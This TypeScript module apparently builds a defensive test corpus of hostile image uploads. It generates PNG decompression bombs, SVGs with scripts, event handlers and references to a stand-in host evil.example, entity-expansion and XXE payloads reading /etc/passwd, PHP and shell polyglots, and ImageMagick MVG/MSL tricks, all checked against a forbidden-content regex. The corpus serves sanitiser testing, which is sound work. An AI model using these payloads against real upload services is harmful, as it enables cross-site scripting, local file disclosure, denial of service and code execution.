import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

const crc = (data: Uint8Array): number => {
  let c = 0xffffffff;
  for (const byte of data) c = (crcTable[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const tail = Buffer.alloc(4);
  tail.writeUInt32BE(crc(body));
  return Buffer.concat([head, body, tail]);
}

/** A PNG that says it is huge: few bytes, billions of pixels. */
export function pngBomb(width: number, height: number): Uint8Array {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const rows = deflateSync(Buffer.alloc(1_000_000));
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

const MARK = 'PAYLOAD';

/** What must be found in no stored file: scripts, handlers, references and foreign bytes. */
export const FORBIDDEN =
  /PAYLOAD|<script|onload|onerror|onclick|onbegin|javascript:|foreignObject|<image|<use|<iframe|<animate|<set\b|<style|@import|href|data:|<!ENTITY|<\?php|http(?!:\/\/www\.w3\.org\/2000\/svg)/i;

const INSIDE_SVG: readonly string[] = [
  `<script>${MARK}</script>`,
  `<SCRIPT>${MARK}</SCRIPT>`,
  `<script href="https://evil.example/${MARK}.js"/>`,
  `<g onclick="${MARK}"><rect width="9" height="9"/></g>`,
  `<rect width="9" height="9" onload="${MARK}"/>`,
  `<a href="javascript:${MARK}"><text x="1" y="9">Click</text></a>`,
  `<a xlink:href="java&#x09;script:${MARK}"><text>Click</text></a>`,
  `<image href="https://evil.example/${MARK}.png"/>`,
  `<image xlink:href="data:image/svg+xml;base64,${MARK}"/>`,
  `<use href="https://evil.example/${MARK}.svg#a"/>`,
  `<use xlink:href="data:image/svg+xml,${MARK}#x"/>`,
  `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/${MARK}"/></body></foreignObject>`,
  `<style>@import url(https://evil.example/${MARK}.css);</style>`,
  `<style>rect{background:url(https://evil.example/${MARK})}</style>`,
  `<rect width="9" height="9" style="fill:url(https://evil.example/${MARK})"/>`,
  `<rect width="9" height="9" fill="url(https://evil.example/${MARK}#a)"/>`,
  `<rect width="9" height="9" fill="u\\72l(https://evil.example/${MARK})"/>`,
  `<animate attributeName="href" values="javascript:${MARK}"/>`,
  `<set attributeName="onmouseover" to="${MARK}"/>`,
  `<set onbegin="${MARK}" attributeName="x" to="1"/>`,
  `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${MARK}</svg:script>`,
  `<math><mtext><script>${MARK}</script></mtext></math>`,
  `<title><script>${MARK}</script></title>`,
  `<desc><img src=x onerror="${MARK}"></desc>`,
  `<metadata>${MARK}</metadata>`,
  `<iframe srcdoc="${MARK}"></iframe>`,
  `<object data="https://evil.example/${MARK}"></object>`,
  `<embed src="https://evil.example/${MARK}">`,
  `<video><source onerror="${MARK}"></video>`,
  `<feImage href="https://evil.example/${MARK}"/>`,
  `<filter id="f"><feImage xlink:href="https://evil.example/${MARK}"/></filter>`,
  `<handler type="text/ecmascript">${MARK}</handler>`,
  `<listener event="click" handler="#${MARK}"/>`,
  `<![CDATA[<script>${MARK}</script>]]>`,
  `<!--><script>${MARK}</script>-->`,
  `<text><![CDATA[]]></text><script>${MARK}</script>`,
  `<noscript><p title="</noscript><script>${MARK}</script>"></noscript>`,
  `<template><script>${MARK}</script></template>`,
  `<linearGradient id="g" href="https://evil.example/${MARK}#g"/>`,
  `<path d="M0 0" marker-start="url(https://evil.example/${MARK}#m)"/>`,
  `<rect width="9" height="9" clip-path="url(data:text/html,${MARK})"/>`,
  `<rect width="9" height="9" filter="url(https://evil.example/${MARK}#f)"/>`,
];

const AROUND_SVG: readonly ((inside: string) => string)[] = [
  (inside) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">${inside}</svg>`,
  (inside) => `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}</svg>`,
  (inside) => `<svg viewBox="0 0 9 9" onload="${MARK}">${inside}</svg>`,
  (inside) => `<!-- a drawing --><svg viewBox="0 0 9 9"><g><g>${inside}</g></g></svg><script>${MARK}</script>`,
  (inside) => `<svg viewBox="0 0 9 9">${inside}<svg onload="${MARK}">${inside}</svg></svg>`,
  (inside) => `\uFEFF<svg viewBox="0 0 9 9" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}`,
];

const ENTITIES = `<!DOCTYPE svg [<!ENTITY a "${'b'.repeat(100)}">${Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY a${level} "${(level === 0 ? '&a;' : `&a${level - 1};`).repeat(10)}">`,
).join('')}<!ENTITY x SYSTEM "file:///etc/passwd">]>`;

/** Files that are none of the pictures that they seem to be, and pictures with more in them: 500 and more. */
export async function maliciousPictures(): Promise<{ readonly name: string; readonly content: Uint8Array }[]> {
  const found: { name: string; content: Uint8Array }[] = [];
  const add = (name: string, content: Uint8Array | string): void =>
    void found.push({ name, content: typeof content === 'string' ? bytes(content) : content });

  for (const [at, around] of AROUND_SVG.entries()) {
    for (const [of, inside] of INSIDE_SVG.entries()) add(`drawing ${at}.${of}`, around(inside));
  }
  for (const text of ['&a8;', '&x;'])
    add(`entities ${text}`, `${ENTITIES}<svg viewBox="0 0 9 9"><text>${text}</text></svg>`);
  add('deep drawing', `<svg viewBox="0 0 9 9">${'<g>'.repeat(4_000)}</svg>`);
  add('wide drawing', `<svg viewBox="0 0 9 9">${'<g/>'.repeat(50_000)}</svg>`);
  add('endless drawing', `<svg viewBox="0 0 1e99 1e99"></svg>`);
  add('drawing without size', `<svg><rect/></svg>`);

  for (const [width, height] of [
    [65_535, 65_535],
    [30_000, 30_000],
    [1_000_000, 50],
    [2_147_483_647, 1],
    [0, 0],
  ] as const) {
    add(`bomb of ${width} x ${height}`, pngBomb(width, height));
  }

  const color = { create: { width: 40, height: 30, channels: 3 as const, background: '#0b5d4b' } };
  const real = {
    png: await sharp(color).png().toBuffer(),
    jpeg: await sharp(color)
      .jpeg()
      .withExif({ IFD0: { Copyright: `<script>${MARK}</script>` } })
      .toBuffer(),
    webp: await sharp(color).webp().toBuffer(),
  };
  const tails = [
    `<script>${MARK}</script>`,
    `<?php system("${MARK}"); ?>`,
    `PK\u0003\u0004${MARK}`,
    `%PDF-1.7 ${MARK}`,
    `<svg onload="${MARK}">`,
    `GIF89a=1;${MARK}//`,
    `#!/bin/sh\n${MARK}`,
    `<!doctype html><img src=x onerror=${MARK}>`,
  ];
  for (const [format, content] of Object.entries(real)) {
    tails.forEach((tail, at) => {
      add(`${format} with a tail ${at}`, Buffer.concat([content, bytes(tail)]));
      add(`${format} behind a head ${at}`, Buffer.concat([bytes(tail), content]));
      const middle = Math.floor(content.length / 2);
      add(
        `${format} with a middle ${at}`,
        Buffer.concat([content.subarray(0, middle), bytes(tail), content.subarray(middle)]),
      );
    });
    for (let cut = 1; cut <= 20; cut += 1) {
      add(`${format} cut at ${cut}`, content.subarray(0, Math.floor((content.length * cut) / 21)));
      const broken = Buffer.from(content);
      const at = Math.floor((content.length * cut) / 21);
      broken[at] = (broken[at] ?? 0) ^ 0xff;
      add(`${format} broken at ${at}`, broken);
    }
  }
  const png = real.png.subarray(0, 8);
  for (const other of [
    'GIF89a',
    'II*\u0000',
    'MM\u0000*',
    '\u0000\u0000\u0000\u001cftypavif',
    '%!PS-Adobe',
    '8BPS',
    'BM',
    '<html>',
    '{}',
    '',
  ]) {
    add(`${other} alone`, `${other}${MARK}`);
    add(`${other} as png`, Buffer.concat([png, bytes(`${other}${MARK}`)]));
    add(`${other} as jpeg`, Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), bytes(`${other}${MARK}`)]));
    add(`${other} as webp`, bytes(`RIFF    WEBP${other}${MARK}`));
  }
  for (const code of [
    `push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://evil.example/"|${MARK}")'`,
    `text:/etc/passwd`,
    `msl:${MARK}`,
  ]) {
    for (let copy = 0; copy < 5; copy += 1) add(`magick ${code.slice(0, 4)} ${copy}`, `${' '.repeat(copy)}${code}`);
  }
  return found;
}
